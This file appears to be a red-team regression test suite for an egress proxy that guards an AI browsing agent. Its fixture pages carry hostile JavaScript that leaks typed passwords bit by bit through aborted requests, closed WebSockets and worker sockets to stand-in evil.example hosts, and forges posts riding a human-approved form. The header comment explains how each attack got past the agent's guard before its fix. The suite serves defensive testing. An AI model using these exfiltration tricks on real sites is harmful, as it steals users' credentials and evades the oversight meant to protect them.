// The taint holds at the choke point whenever a request was judged, and a pass is no wider than its question: the
// attacks of a red-team review of the choke point (browser/egressProxy.ts, browser/requestJudge.ts,
// browser/requestTags.ts), each of which caused harm before its fix. An obedient agent, hostile pages, a human who
// approves what the guard asks about actions and refuses every held request ("did not predict"); harm is what the
// fixture servers received.
// - Judged before, sent after: a page makes requests be judged before a read (or before a secret is typed) and reach
//   the proxy after it (queued behind six hanging requests of its own in the browser's socket pool; a WebSocket
//   allowance its route granted and the page left unspent, the real constructor throwing on a protocol list
//   Playwright's mock does not check, spent later by a worker), choosing afterwards which arrive: a typed password
//   left bit by bit. Now a token carries the taint epoch it was judged at, and the proxy judges the taint again when
//   it grew since; socket allowances live seconds.
// - Cut when the page chooses: connections opened before a secret is typed, cut after it (a socket closed, a request
//   aborted), were cut at the attacker's server too, one bit each. Now the taint growing cuts every connection to a
//   host it covers, all at once, before the secret is typed.
// - A form's pass was origin + path, spent by the tab's first write: the page's script, or a cross-site frame, posting
//   its own values there rode the approval. Now a pass names the full URL and is spent only by the approved frame's
//   own navigation (the form submitting).
// Held from the first: a page's own x-tabward-request header, odd-case methods, a service worker's and a page's 307
// into a sensitive page, other spellings of the attacker's address after a read, pagehide beacons on navigate_page, a
// streaming upload across a read.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { WebSocketServer } from 'ws';
import { type Fixture, html, type Route, startFixture } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_attackChokeReview271';
const secretB = 'Tr0ub4'; // typed into login-b.example
const secretD = 'Zq9!xK'; // typed into login-d.example
const secretJ = 'p'; // typed into login-j.example
const secretK = 'W'; // typed into login-k.example (one character: eight bits)
const bitsOf = (length: number) => length * 8;

interface Upgrade {
  readonly host: string;
  readonly url: string;
}

interface Ended extends Upgrade {
  readonly at: number;
}

describe('taint at the choke point, and passes no wider than their question', () => {
  let site: Fixture;
  let browser: InProcessBrowser;
  let mcp: InProcessMcp | undefined;
  const upgrades: Upgrade[] = [];
  /** WebSockets and requests whose connection closed before they were done, as the attacker's server saw it. */
  const closedSockets: Ended[] = [];
  const aborted: Ended[] = [];
  /** Hanging requests (/hang) are answered once the test lets them go. */
  let letGo: () => void = () => undefined;
  let hanging = new Promise<void>((resolve) => {
    letGo = resolve;
  });
  const holdHangs = () => {
    hanging = new Promise<void>((resolve) => {
      letGo = resolve;
    });
  };
  const url = (host: string, path: string) => site.url(host, path);
  const js = (value: string) => JSON.stringify(value);
  const from = (host: string, path: string) =>
    site.seen.filter((request) => request.host.startsWith(`${host}:`) && request.path.startsWith(path));
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
  const script =
    (body: string): Route =>
    (_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' }).end(body);
    };
  const empty: Route = (_req, _body, res) => {
    res.writeHead(204).end();
  };

  /** Six requests that hang (a host's whole HTTP/1.1 socket pool), then `queued` behind them. */
  const saturate = (queued: string) =>
    `for (let i = 0; i < 6; i++) fetch('/hang?i=' + i + '&t=' + Date.now(), { mode: 'no-cors', cache: 'no-store' }).catch(() => {});
     setTimeout(() => { ${queued}; document.title = 'queued' }, 400);`;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/repo': (_req, _body, res) => html(res, '<title>Repo</title><p>readme</p>'),
        '/hang': async (_req, _body, res) => {
          await hanging;
          res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('ok');
        },
        '/q': empty,
        '/bit': empty,
        // A: requests judged before the read, queued behind six hanging ones to the same host.
        '/queue': (_req, _body, res) =>
          html(
            res,
            `<title>Queue</title><p>news</p><script>${saturate(
              "for (let i = 0; i < 10; i++) fetch('/q?i=' + i, { mode: 'no-cors', cache: 'no-store' }).catch(() => {})",
            )}</script>`,
          ),
        // B: a login page that pre-queues one request per bit of the password to another host, and aborts the
        // ones for zero bits once the password is typed.
        '/login-bits': (req, _body, res) => {
          const evil = url('evil-b.example', '');
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const evil = ${js(evil)}; const bits = ${bitsOf(secretB.length)}; const controllers = [];
            for (let i = 0; i < 6; i++) fetch(evil + '/hang?i=' + i + '&t=' + Date.now(), { mode: 'no-cors', cache: 'no-store' }).catch(() => {});
            setTimeout(() => {
              for (let k = 0; k < bits; k++) { const c = new AbortController(); controllers.push(c);
                fetch(evil + '/bit?k=' + k, { mode: 'no-cors', cache: 'no-store', signal: c.signal }).catch(() => {}) }
              document.title = 'queued';
            }, 400);
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value;
              for (let k = 0; k < controllers.length; k++) if (!((v.charCodeAt(k >> 3) >> (k & 7)) & 1)) controllers[k].abort();
            });
            </script>${req.url}`,
          );
        },
        // C: WebSocket allowances the page's route grants, left unspent (the real socket's constructor throws on
        // a protocol list the mock does not check), then spent by a worker's own sockets.
        '/ws-allow': (_req, _body, res) =>
          html(
            res,
            `<title>Live</title><p>live scores</p><script>
            const base = location.origin.replace('https', 'wss');
            for (let i = 0; i < 40; i++) new WebSocket(base + '/ws?n=' + i, ['not a token']);
            const w = new Worker(URL.createObjectURL(new Blob([\`let i = 0; setInterval(() => { new WebSocket(\${JSON.stringify(base)} + '/ws?n=' + i); new WebSocket(\${JSON.stringify(base)} + '/ws?fresh=' + i); i++ }, 400)\`])));
            </script>`,
          ),
        // D: as C, bit by bit for a typed secret.
        // L: a settings page with a form the human approves, and a cross-site frame of its tab posting there all along.
        '/settings/emails': (_req, _body, res) =>
          html(
            res,
            `<title>Emails</title><form action="/settings/emails" method="post"><input name="email" value="me@example.com" aria-label="Email">
            <button>Save email</button></form><iframe src="${url('ads-l.example', '/spam')}"></iframe>`,
          ),
        '/spam': (_req, _body, res) =>
          html(
            res,
            `<title>ad</title><script>setInterval(() => fetch(${js(url('github.com', '/settings/emails?from=frame'))}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=attacker@evil.example' }).catch(() => {}), 15)</script>ad`,
          ),
        // M: a plain page whose form posts into a sensitive page; its click handler posts other values there first.
        '/newsletter': (_req, _body, res) =>
          html(
            res,
            `<title>Newsletter</title><form action="${url('github.com', '/settings/emails')}" method="post">
            <input name="email" value="me@example.com" aria-label="Email"><button id="save">Save email</button></form>
            <script>document.getElementById('save').addEventListener('click', () => fetch(${js(url('github.com', '/settings/emails?from=script'))}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=attacker@evil.example' }))</script>`,
          ),
        // J: a login page whose sockets, opened before the password is typed, are closed after it: one per set bit.
        '/login-close': (_req, _body, res) => {
          const evil = url('evil-j.example', '').replace('https', 'wss');
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const bits = ${bitsOf(secretJ.length)}; const sockets = [];
            for (let k = 0; k < bits; k++) sockets.push(new WebSocket(${js(evil)} + '/ws?k=' + k));
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value;
              for (let k = 0; k < bits; k++) if ((v.charCodeAt(k >> 3) >> (k & 7)) & 1) sockets[k].close(4000, 'one');
            });
            </script>`,
          );
        },
        // K: a login page whose hanging requests (one host each), sent before the password is typed, are aborted
        // after it: one per set bit.
        '/login-abort': (_req, _body, res) => {
          const hosts = Array.from({ length: 8 }, (_, k) => url(`evil-k${k}.example`, ''));
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const hosts = ${js(JSON.stringify(hosts))}; const controllers = [];
            for (const [k, host] of JSON.parse(hosts).entries()) { const c = new AbortController(); controllers.push(c);
              fetch(host + '/hang-abort?k=' + k, { mode: 'no-cors', cache: 'no-store', signal: c.signal }).catch(() => {}) }
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value;
              for (let k = 0; k < 8; k++) if ((v.charCodeAt(0) >> k) & 1) controllers[k].abort();
            });
            </script>`,
          );
        },
        '/hang-abort': async (req, _body, res) => {
          res.on('close', () => {
            if (!res.writableFinished)
              aborted.push({ host: req.headers.host ?? '', url: req.url ?? '', at: Date.now() });
          });
          await hanging;
          if (!res.destroyed) res.writeHead(204).end();
        },
        '/login-ws': (_req, _body, res) => {
          const evil = url('evil-d.example', '').replace('https', 'wss');
          html(
            res,
            `<title>Sign in</title><input type="password" aria-label="Password"><script>
            const evil = ${js(evil)}; const bits = ${bitsOf(secretD.length)};
            for (let k = 0; k < bits; k++) new WebSocket(evil + '/ws?k=' + k, ['not a token']);
            const w = new Worker(URL.createObjectURL(new Blob([\`onmessage = (e) => { for (const k of e.data) new WebSocket(\${JSON.stringify(evil)} + '/ws?k=' + k) }\`])));
            document.querySelector('input').addEventListener('input', (e) => {
              const v = e.target.value; const ones = [];
              for (let k = 0; k < bits; k++) if ((v.charCodeAt(k >> 3) >> (k & 7)) & 1) ones.push(k);
              w.postMessage(ones);
            });
            </script>`,
          );
        },
        // E: a page of the sensitive site setting its own x-tabward-request header on a write.
        '/forge': (_req, _body, res) =>
          html(
            res,
            `<title>Forge</title><p>forge</p><script>setInterval(() => {
              fetch('/settings/forged?a', { method: 'POST', headers: { 'x-tabward-request': '0'.repeat(32) }, body: 'x' }).catch(() => {});
              fetch('/settings/forged?b', { method: 'POST', headers: { 'X-Tabward-Request': 'f'.repeat(32), 'x-TABWARD-request': '' }, body: 'x' }).catch(() => {});
              fetch('/settings/forged?c', { method: 'post', body: 'x' }).catch(() => {});
              fetch('/settings/forged?d', { method: 'PaTcH', body: 'x' }).catch(() => {});
            }, 300)</script>`,
          ),
        // F: a service worker whose allowed POST to its own site is 307-redirected into a sensitive page.
        '/sw-page': (_req, _body, res) =>
          html(
            res,
            `<title>SW</title><p>offline ready</p><script>
            navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => {
              setInterval(() => r.active.postMessage('go'), 300); document.title = 'sw ready' }).catch((e) => document.title = 'sw failed ' + e);
            </script>`,
          ),
        '/sw.js': (req, body, res) =>
          script(
            `addEventListener('message', () => {
             fetch('/r307?sw', { method: 'POST', mode: 'no-cors', body: 'amount=1' }).catch(() => {});
             fetch(${js(url('github.com', '/settings/sw-direct'))}, { method: 'POST', mode: 'no-cors', body: 'amount=1' }).catch(() => {});
           })`,
          )(req, body, res),
        '/r307': (req, _body, res) => {
          res.writeHead(307, { location: url('github.com', `/settings/sw-hop?${req.url}`) }).end();
        },
        '/page-307': (_req, _body, res) =>
          html(
            res,
            `<title>Hop</title><script>setInterval(() => fetch('/r307?page', { method: 'POST', mode: 'no-cors', body: 'amount=1' }).catch(() => {}), 300)</script>`,
          ),
        // G: after a read, the fixture's own addresses in other spellings.
        '/loopback': (_req, _body, res) => {
          const port = site.port;
          const targets = [
            `https://127.0.0.1:${port}/lb?1`,
            `https://localhost:${port}/lb?2`,
            `https://0x7f000001:${port}/lb?3`,
            `https://127.1:${port}/lb?4`,
            `https://[::ffff:127.0.0.1]:${port}/lb?5`,
            `https://evil-g.example.:${port}/lb?6`,
            `https://EVIL-G.example:${port}/lb?7`,
            `https://xn--evl-g-9qa.example:${port}/lb?8`,
            `http://evil-g.example:${port}/lb?9`,
            `https://evil-g.example:${port}/lb?10=${'a'.repeat(60_000)}`,
          ];
          html(
            res,
            `<title>Loop</title><script>const t = ${js(JSON.stringify(targets))};
            setInterval(() => { for (const u of JSON.parse(t)) fetch(u, { mode: 'no-cors', cache: 'no-store' }).catch(() => {});
              navigator.sendBeacon('/lb?beacon', 'x'); new Image().src = '/lb?img=' + Date.now() }, 300)</script>`,
          );
        },
        // H: a page the agent navigates away from after a read, beaconing as it goes.
        '/goodbye': (_req, _body, res) =>
          html(
            res,
            `<title>Bye</title><script>addEventListener('pagehide', () => { navigator.sendBeacon('/bye?beacon', 'x');
              fetch('/bye?keepalive', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }) })</script>`,
          ),
        // I: an upload whose body is still streaming when the read happens.
        '/stream': (_req, _body, res) =>
          html(
            res,
            `<title>Stream</title><script>
            let n = 0; const body = new ReadableStream({ pull: (c) => new Promise((r) => setTimeout(() => { if (n++ > 15) c.close(); else c.enqueue(new TextEncoder().encode('at=' + Date.now() + '\\n')); r() }, 200)) });
            fetch('/upload', { method: 'POST', body, duplex: 'half' }).then(() => document.title = 'uploaded', (e) => document.title = 'upload failed ' + e);
            </script>`,
          ),
        '/upload': empty,
      },
      { tls: true },
    );
    const sockets = new WebSocketServer({ noServer: true });
    site.onUpgrade((req, socket, head) => {
      upgrades.push({ host: req.headers.host ?? '', url: req.url ?? '' });
      sockets.handleUpgrade(req, socket, head, (ws) => {
        ws.on('error', () => undefined);
        ws.on('close', () =>
          closedSockets.push({ host: req.headers.host ?? '', url: req.url ?? '', at: Date.now() }),
        );
      });
    });
    browser = await startInProcess({
      secrets: [
        `LOGIN_B@${url('login-b.example', '')}=${secretB}`,
        `LOGIN_D@${url('login-d.example', '')}=${secretD}`,
        `LOGIN_J@${url('login-j.example', '')}=${secretJ}`,
        `LOGIN_K@${url('login-k.example', '')}=${secretK}`,
        '',
      ].join('\n'),
    });
  });
  after(async () => {
    letGo();
    await mcp?.close();
    await browser?.close();
    await site?.close();
  });

  /** A fresh call path (no taint) whose human approves what the guard asks and refuses every held request. */
  async function agent(): Promise<InProcessMcp> {
    await mcp?.close();
    // The tabs an earlier test left (some beacon on their own, all the time) go quiet: each test starts afresh.
    await Promise.all(
      browser.browser.session.pages
        .list()
        .map((tracked) => tracked.page.goto('about:blank').catch(() => undefined)),
    );
    const fresh = await browser.connect();
    fresh.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    mcp = fresh;
    return fresh;
  }

  async function readTokens(agentMcp: InProcessMcp): Promise<void> {
    const opened = await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.equal(opened.isError, false, opened.text);
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
  }

  const tabOf = (text: string) => /Tab (p\d+)/.exec(text)?.[1] ?? '';

  test('requests a page queued behind its own hanging ones before a sensitive read reach its host after it', async () => {
    const agentMcp = await agent();
    holdHangs();
    await agentMcp.call('new_page', { url: url('evil-a.example', '/queue') });
    await waitFor('six hanging requests', () => from('evil-a.example', '/hang').length >= 6);
    await quietly(1_000); // the queued ones are judged (untainted) and wait for a socket
    const early = from('evil-a.example', '/q').length;
    assert.ok(early < 10, 'nothing was queued');
    await readTokens(agentMcp);
    letGo();
    await quietly(2_000);
    const after = from('evil-a.example', '/q')
      .slice(early)
      .map((request) => request.path);
    assert.deepEqual(
      after,
      [],
      `after the read, evil-a.example received ${after.length}: ${after.join(' ')}`,
    );
  });

  test('a typed password leaves bit by bit through queued requests the page aborts or lets go', async () => {
    const agentMcp = await agent();
    holdHangs();
    await agentMcp.call('new_page', { url: url('login-b.example', '/login-bits') });
    await waitFor('six hanging requests', () => from('evil-b.example', '/hang').length >= 6);
    await quietly(1_000);
    const snapshot = await agentMcp.call('take_snapshot');
    const typed = await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Password'), secret: 'LOGIN_B' });
    assert.equal(typed.isError, false, typed.text);
    await quietly(500);
    letGo();
    await quietly(2_500);
    const bits = from('evil-b.example', '/bit').map((request) => Number(/k=(\d+)/.exec(request.path)?.[1]));
    const codes = new Array(secretB.length).fill(0);
    for (const k of bits) codes[k >> 3] |= 1 << (k & 7);
    const recovered = String.fromCharCode(...codes);
    assert.deepEqual(
      bits,
      [],
      `while the tab held the typed secret, evil-b.example received ${bits.length} requests; their bits spell "${recovered}"`,
    );
  });

  test('a WebSocket allowance a page left unspent lets its worker’s handshakes out after a sensitive read', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil-c.example', '/ws-allow') });
    const mine = () => upgrades.filter((upgrade) => upgrade.host.startsWith('evil-c.example:'));
    await waitFor('the worker’s sockets open', () => mine().filter((u) => u.url.includes('n=')).length >= 2);
    await readTokens(agentMcp);
    const mark = mine().length;
    await quietly(3_000);
    const later = mine().slice(mark);
    const fresh = later.filter((upgrade) => upgrade.url.includes('fresh='));
    const allowed = later.filter((upgrade) => upgrade.url.includes('n='));
    // The proxy's own judgment holds for sockets nothing let through (at most one on its way as the read happened).
    assert.ok(fresh.length <= 1, `fresh sockets after the read: ${fresh.map((u) => u.url).join(' ')}`);
    assert.ok(
      allowed.length <= 1,
      `after the read, evil-c.example received ${allowed.length} WebSocket handshakes: ${allowed.map((u) => u.url).join(' ')}`,
    );
  });

  test('a typed password leaves bit by bit through WebSocket allowances the page left unspent', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('login-d.example', '/login-ws') });
    await quietly(1_500);
    const snapshot = await agentMcp.call('take_snapshot');
    const typed = await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Password'), secret: 'LOGIN_D' });
    assert.equal(typed.isError, false, typed.text);
    // The browser opens one WebSocket to a host at a time: the handshakes trickle out.
    await quietly(6_000);
    const bits = upgrades
      .filter((upgrade) => upgrade.host.startsWith('evil-d.example:'))
      .map((upgrade) => Number(/k=(\d+)/.exec(upgrade.url)?.[1]));
    const codes = new Array(secretD.length).fill(0);
    for (const k of bits) codes[k >> 3] |= 1 << (k & 7);
    assert.deepEqual(
      bits,
      [],
      `while the tab held the typed secret, evil-d.example received ${bits.length} handshakes; their bits spell "${String.fromCharCode(...codes)}"`,
    );
  });

  test('a page’s own x-tabward-request header, and odd-case methods, ride nothing into a sensitive page', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('github.com', '/forge') });
    const tab = tabOf(opened.text);
    await quietly(500);
    // An action running in the tab: its human is asked about each held write (and refuses it).
    await agentMcp.call('take_snapshot');
    await agentMcp.call('resize_page', { width: 700, height: 500 });
    await quietly(1_000);
    await agentMcp.call('navigate_page', { url: 'about:blank', pageId: tab });
    assert.deepEqual(from('github.com', '/settings/forged'), []);
  });

  test('a service worker’s and a page’s POST 307-redirected into a sensitive page never arrives', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil-f.example', '/sw-page') });
    await waitFor('the service worker posts', () => from('evil-f.example', '/r307?sw').length > 0);
    await agentMcp.call('navigate_page', {
      url: url('evil-f.example', '/page-307'),
      pageId: tabOf(opened.text),
    });
    await waitFor('the page posts', () => from('evil-f.example', '/r307?page').length > 0);
    await quietly(1_500);
    await agentMcp.call('navigate_page', { url: 'about:blank', pageId: tabOf(opened.text) });
    assert.deepEqual(from('github.com', '/settings/sw-'), []);
  });

  test('after a sensitive read, the attacker’s server under other spellings of its address receives nothing', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil-g.example', '/loopback') });
    await waitFor('the page reaches its server', () => site.seen.some((r) => r.path.startsWith('/lb?')));
    await readTokens(agentMcp);
    const mark = site.seen.length;
    await quietly(2_000);
    const later = site.seen
      .slice(mark)
      .filter((request) => request.path.startsWith('/lb'))
      .map((request) => `${request.method} ${request.host}${request.path.slice(0, 40)}`);
    // At most one round was on its way as the read happened.
    assert.ok(later.length <= 14, `after the read: ${later.join(' | ')}`);
    const mark2 = site.seen.length;
    await quietly(1_000);
    const last = site.seen
      .slice(mark2)
      .filter((request) => request.path.startsWith('/lb'))
      .map((request) => `${request.method} ${request.host}${request.path.slice(0, 40)}`);
    assert.deepEqual(last, []);
  });

  test('a page the agent navigates away from after a sensitive read beacons nothing home', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil-h.example', '/goodbye') });
    await readTokens(agentMcp);
    await agentMcp.call('navigate_page', { url: url('github.com', '/repo'), pageId: tabOf(opened.text) });
    await quietly(1_000);
    assert.deepEqual(from('evil-h.example', '/bye'), []);
  });

  test('an upload still streaming its body across a sensitive read carries nothing after it', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil-i.example', '/stream') });
    await quietly(800);
    await readTokens(agentMcp);
    const readAt = Date.now();
    await quietly(3_000);
    const chunks = from('evil-i.example', '/upload')
      .flatMap((request) => request.body.split('\n'))
      .map((line) => Number(/at=(\d+)/.exec(line)?.[1] ?? 0))
      .filter((at) => at > readAt);
    const titles = (await agentMcp.call('list_pages')).text;
    assert.deepEqual(chunks, [], titles);
  });
  test('sockets opened before a password is typed, closed after it, tell the attacker its bits', async () => {
    const agentMcp = await agent();
    const mine = <T extends Upgrade>(list: T[]) =>
      list.filter((entry) => entry.host.startsWith('evil-j.example:'));
    await agentMcp.call('new_page', { url: url('login-j.example', '/login-close') });
    await waitFor('the sockets open', () => mine(upgrades).length >= bitsOf(secretJ.length), {
      timeoutMs: 20_000,
    }).catch((error: unknown) => {
      throw new Error(`${String(error)}: ${mine(upgrades).length} open`);
    });
    const snapshot = await agentMcp.call('take_snapshot');
    const typedAt = Date.now();
    const typed = await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Password'), secret: 'LOGIN_J' });
    assert.equal(typed.isError, false, typed.text);
    await quietly(1_500);
    const bits = mine(closedSockets)
      .filter((entry) => entry.at >= typedAt)
      .map((entry) => Number(/k=(\d+)/.exec(entry.url)?.[1]));
    const codes = new Array(secretJ.length).fill(0);
    for (const k of bits) codes[k >> 3] |= 1 << (k & 7);
    // As the secret is about to be typed the choke point cuts every socket to a host outside the allowed set, all at
    // once: which ones close then says nothing of the secret. A cut that spared some would.
    const total = bitsOf(secretJ.length);
    assert.ok(
      bits.length === 0 || bits.length === total,
      `while the tab held the typed secret, evil-j.example saw ${bits.length} of ${total} sockets close; their bits spell "${String.fromCharCode(...codes)}"`,
    );
  });

  test('requests pending before a password is typed, aborted after it, tell the attacker its bits', async () => {
    const agentMcp = await agent();
    holdHangs();
    const mine = () => site.seen.filter((request) => request.path.startsWith('/hang-abort'));
    await agentMcp.call('new_page', { url: url('login-k.example', '/login-abort') });
    await waitFor('the requests hang', () => mine().length >= 8);
    const snapshot = await agentMcp.call('take_snapshot');
    const typedAt = Date.now();
    const typed = await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Password'), secret: 'LOGIN_K' });
    assert.equal(typed.isError, false, typed.text);
    await quietly(1_500);
    const bits = aborted
      .filter((entry) => entry.at >= typedAt && entry.url.startsWith('/hang-abort'))
      .map((entry) => Number(/k=(\d+)/.exec(entry.url)?.[1]));
    let code = 0;
    for (const k of bits) code |= 1 << k;
    letGo();
    // Cut all at once as the secret is about to be typed, or none: either way the set says nothing of the secret.
    assert.ok(
      bits.length === 0 || bits.length === 8,
      `while the tab held the typed secret, ${bits.length} of the attacker's 8 pending requests were cut; their bits spell "${String.fromCharCode(code)}"`,
    );
  });
  test('a cross-site frame posting all along rides the pass of the form the human approved in its tab', async () => {
    const agentMcp = await agent();
    // As chokePoint's resize test: the frame's own load after the read is asked, and let go; every write is refused.
    agentMcp.human.policy = (message) => ({
      decision: /did not predict/.test(message) && /POST/.test(message) ? 'reject' : 'approve',
    });
    const opened = await agentMcp.call('new_page', { url: url('github.com', '/settings/emails') });
    await waitFor('the frame loads', () => from('ads-l.example', '/spam').length > 0);
    // The frame posts all the while: on a loaded machine a read may need another go before it shows the button.
    const snapshot = await waitFor('the form in a snapshot', async () => {
      const read = await agentMcp.call('take_snapshot', { pageId: tabOf(opened.text) });
      return read.text.includes('Save email') ? read : undefined;
    });
    const clicked = await agentMcp.call('click', { ref: refOf(snapshot.text, 'Save email') });
    await quietly(1_000);
    await agentMcp.call('navigate_page', { url: 'about:blank', pageId: tabOf(opened.text) });
    const writes = from('github.com', '/settings/emails').filter((request) => request.method === 'POST');
    assert.deepEqual(
      writes.filter((request) => request.body.includes('attacker')),
      [],
      `${clicked.text}\n${JSON.stringify(writes)}`,
    );
  });
  test('a page’s script posts its own values on the pass of the form the human approved', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil-m.example', '/newsletter') });
    const snapshot = await agentMcp.call('take_snapshot', { pageId: tabOf(opened.text) });
    const asked = agentMcp.human.questions.length;
    const clicked = await agentMcp.call('click', { ref: refOf(snapshot.text, 'Save email') });
    await quietly(1_000);
    const writes = from('github.com', '/settings/emails').filter((request) => request.method === 'POST');
    const questions = agentMcp.human.questions.slice(asked).join('\n---\n');
    assert.deepEqual(
      writes.filter((request) => request.body.includes('attacker')),
      [],
      `the human was asked:\n${questions}\n\n${clicked.text}\n${JSON.stringify(writes)}`,
    );
  });
});
